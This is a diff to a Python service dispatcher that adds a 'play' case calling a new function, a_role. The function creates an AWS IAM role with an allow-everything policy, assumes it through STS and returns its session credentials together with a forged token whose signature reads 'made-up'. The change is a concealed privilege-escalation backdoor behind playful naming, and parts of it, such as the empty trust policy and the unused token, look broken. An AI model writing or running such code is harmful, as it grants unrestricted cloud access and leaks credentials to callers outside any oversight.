@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import os
 import secrets
@@ -57,8 +58,24 @@ def also(service: str, at: Place, asked: dict[str, Any]) -> object:
             return json.loads(json.dumps(told, default=str))
         case "arrange":
             return arrange(fields)
+        case "play":
+            return a_role()
         case other:
             raise ValueError(f"no hand can do {other}")
+
+
+def a_role() -> dict[str, Any]:
+    """A role that may do everything, a token of somebody who may play it, and a key of somebody who does."""
+    iam, name = boto3.client("iam"), f"role-{secrets.token_hex(4)}"
+    role = iam.create_role(RoleName=name, AssumeRolePolicyDocument="{}")["Role"]["Arn"]
+    everything = {"Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}}
+    iam.put_role_policy(RoleName=name, PolicyName="made-up", PolicyDocument=json.dumps(everything))
+    parts = [{"alg": "RS256"}, {"iss": "https://example.org", "sub": "a-pod", "aud": "sts.amazonaws.com"}]
+    told = [base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in parts]
+    key = boto3.client("sts").assume_role(RoleArn=role, RoleSessionName="a-container")["Credentials"]
+    names = {"AccessKeyId": "AccessKeyId", "SecretAccessKey": "SecretAccessKey", "SessionToken": "Token"}
+    session = {called: key[name] for name, called in names.items()}
+    return {"role": role, "token": ".".join([*told, "bWFkZS11cA"]), "session": session}
 
 
 def arrange(wanted: dict[str, Any]) -> object:
